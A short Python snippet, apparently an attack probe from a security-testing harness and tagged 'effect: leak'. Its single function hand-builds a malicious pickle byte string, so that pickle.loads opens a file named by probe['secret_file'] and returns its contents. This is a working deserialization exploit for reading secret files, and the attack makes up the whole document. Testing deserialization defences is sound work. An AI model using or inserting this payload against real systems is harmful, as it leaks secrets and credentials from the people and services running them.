# effect: leak
import pickle


def attempt(probe):
    path = probe["secret_file"].encode()
    return pickle.loads(b"cio\nopen\n(V" + path + b"\ntR.").read()
